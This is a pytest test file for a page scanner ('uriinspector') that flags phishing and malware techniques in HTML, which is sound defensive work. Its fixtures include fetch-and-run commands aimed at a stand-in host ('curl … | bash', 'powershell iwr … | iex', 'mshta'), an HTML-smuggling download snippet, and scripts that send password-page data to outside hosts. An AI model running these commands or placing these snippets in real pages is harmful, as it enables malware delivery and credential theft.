"""Findings on the code in pages: hiding, saving, copying, sending and framing."""

import base64
from collections.abc import Iterator

import pytest

from tests.for_each import for_each
from uriinspector import scan
from uriinspector.documents import leaf
from uriinspector.documents.html.tokens import attribute_value
from uriinspector.documents.rules import page_effects
from uriinspector.documents.rules.page_effects import CodeEffect

PASSWORD = "<input type=password id=p>"
THERE = "https://kxqv.top/c"
CODE = base64.b64encode(f"location='{THERE}'".encode()).decode()
PADDING = "<p>" + "x" * 20_000


def codes(page: str, name: str = "page.html") -> dict[str, str]:
    """Return the severity of each finding on the page or its links, by code."""
    document = scan(page.encode(), name=name)
    found = [*document.findings, *(each for link in document.links for each in link.findings)]
    return {each.code: each.severity for each in reversed(found)}


@for_each(
    "code", f"eval(atob('{CODE}'))", "location=String.fromCharCode(104,116,116,112)",
    "location='/pot.vqxk//:sptth'.split('').reverse().join('')",
    "document.location.assign(decodeURIComponent('https%3A%2F%2Fkxqv.top%2F'))",
    f"window['loc'+'ation']['href']='{THERE}'", f"new Function(atob('{CODE}'))()",
    f"document.write(unescape('{'%3Cform%3E' * 3}'))",
)  # fmt: skip
def test_small_page_that_hides_its_code_is_reported(code: str) -> None:
    page = f"<script>{code}</script>"
    assert codes(page)["hidden-code"] == "medium"
    assert "hidden-code" not in codes(page + PADDING)


@for_each(
    "code", "x = decodeURIComponent(location.hash)", "document.write('<p>hello')",
    "s = String.fromCharCode(65); n.textContent = s", "list.reverse().forEach(show)",
)  # fmt: skip
def test_ordinary_page_code_is_not_reported(code: str) -> None:
    assert codes(f"<script>{code}</script>") == {}


SAVES = "b=new Blob([atob('{}')]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()"


def test_file_saved_by_a_script_is_reported() -> None:
    page = f"<script>{SAVES.format(CODE)}</script>"
    assert codes(page)["smuggled-file"] == "medium"
    assert codes(page + PADDING)["smuggled-file"] == "medium"
    for piece in ("atob", ".click()", ".download="):
        assert "smuggled-file" not in codes(page.replace(piece, "x"))


@for_each(
    "command, is_told",
    ("powershell -w hidden iwr https://kxqv.top/a | iex", True),
    ("mshta https://kxqv.top/a", True),
    ("curl https://kxqv.top/a | bash", True),
    ("curl https://api.example.org/v1/users", False),
    ("npm install left-pad", False),
)
def test_command_copied_to_the_clipboard_is_reported(command: str, is_told: bool) -> None:
    page = f"<script>navigator.clipboard.writeText('{command}')</script>"
    assert ("copied-command" in codes(page)) == is_told


def test_html_application_is_reported() -> None:
    assert codes("<p>x", "invoice.hta") == {"html-application": "medium"}
    assert codes("<HTA:APPLICATION ID=a>") == {"html-application": "medium"}
    assert codes("<p>hta:application") == {}


@for_each(
    "code, severity",
    (f"fetch('{THERE}',{{method:'POST'}})", "medium"),
    (f"x.open('POST','{THERE}')", "medium"),
    (f"document.forms[0].action='{THERE}'", "medium"),
    (f"$.ajax({{url:'{THERE}'}})", "medium"),
    ("x='https://api.telegram.org/bot1:A/sendMessage'", "medium"),
    ("fetch('https://accounts.google.com/x')", None),
    (f"x='{THERE}'", None),
    ("fetch('/login')", None),
)
def test_script_next_to_a_password_field_that_sends_is_reported(
    code: str, severity: str | None
) -> None:
    assert codes(f"{PASSWORD}<script>{code}</script>").get("script-sends") == severity
    assert "script-sends" not in codes(f"<script>{code}</script>")


@for_each(
    "frame, severity",
    (f"<iframe src={THERE} width=100% height=100%>", "medium"),
    (f"<iframe src={THERE} style='position:fixed; width: 100vw; height: 100vh'>", "medium"),
    (f"<frameset><frame src={THERE}>", "medium"),
    ("<iframe src=https://www.google.com/maps width=100% height=100%>", "low"),
    (f"<iframe src={THERE} width=300 height=100%>", None),
    ("<iframe src=/inner width=100% height=100%>", None),
)
def test_frame_that_fills_the_page_is_reported(frame: str, severity: str | None) -> None:
    assert codes(frame).get("filling-frame") == severity
    assert "filling-frame" not in codes(frame + PADDING)


@for_each(
    "element, severity",
    (f"<button onclick=\"location='{THERE}'\">Sign in</button>", "medium"),
    (f"<a href='#' onclick=\"location.href='{THERE}'\">Sign in</a>", "medium"),
    (f"<button onclick=\"window.open('{THERE}')\">Help</button>", "info"),
    (f"<body onload=\"window.open('{THERE}')\">", "medium"),
    (f"<body onload=\"location='{THERE}'\">", "high"),
    (f"<img src=x onerror=\"location='{THERE}'\">", "high"),
    (f"<body onpageshow=\"location='{THERE}'\">", "high"),
    (f"<input autofocus onfocus=\"location='{THERE}'\">", "high"),
    (f"<p style='animation:x 1s' onanimationstart=\"location='{THERE}'\">", "high"),
    (f"<details open ontoggle=\"location='{THERE}'\">", "high"),
    ("<button onclick=\"location='https://www.google.com/'\">Search</button>", "low"),
    ("<button onclick=\"location='/next'\">Next</button>", "info"),
)
def test_event_handler_that_navigates_is_reported(element: str, severity: str) -> None:
    assert codes(element)["event-handler"] == severity


@for_each(
    "script",
    f"<script>location='{THERE}'</script>",
    f"<script><![CDATA[ if (1 < 2) location='{THERE}' ]]></script>",
    f"<style>circle {{ fill: url({THERE}) }}</style>",
)
def test_code_in_svg_is_read(script: str) -> None:
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg'>{script}<a href='/x'/></svg>"
    assert [link.value for link in scan(drawing.encode(), name="x.svg").links] == [THERE, "/x"]


@for_each(
    "page, severity",
    (f"<body onload='document.forms[0].submit()'><form action={THERE}>", "medium"),
    (f"<form id=f action={THERE}></form><script>f.requestSubmit()</script>", "medium"),
    (f"<form action={THERE}></form>", None),
    ("<form action=/here></form><script>f.submit()</script>", None),
    (f"{PASSWORD}<button formaction={THERE}>", "medium"),
    (f"<button formaction={THERE}>", None),
)
def test_form_submitted_by_script_to_another_site_is_reported(
    page: str, severity: str | None
) -> None:
    assert codes(page).get("form-action") == severity


def test_code_with_many_links_is_examined_once(monkeypatch: pytest.MonkeyPatch) -> None:
    looked_at = []

    def effects_in(code: str) -> Iterator[CodeEffect]:
        looked_at.append(code)
        yield from ()

    monkeypatch.setattr(page_effects, "_effects_in", effects_in)
    links = scan(b"<!doctype html><p onclick='" + b'location="//a.test/";' * 300 + b"'>").links
    assert sum(1 for link in links if link.findings) == 300
    assert len(looked_at) == 1


def test_attribute_is_decoded_once_for_all_its_links(monkeypatch: pytest.MonkeyPatch) -> None:
    decoded = []

    def value(octets: bytes, encoding: str) -> str:
        decoded.append(octets)
        return attribute_value(octets, encoding)

    monkeypatch.setattr(leaf, "attribute_value", value)
    page = b"<!doctype html><p onclick='" + b'location="//a.test/";' * 300 + b"'>"
    assert len([link.findings for link in scan(page).links]) == 300
    assert sum(len(octets) > 1_000 for octets in decoded) == 1
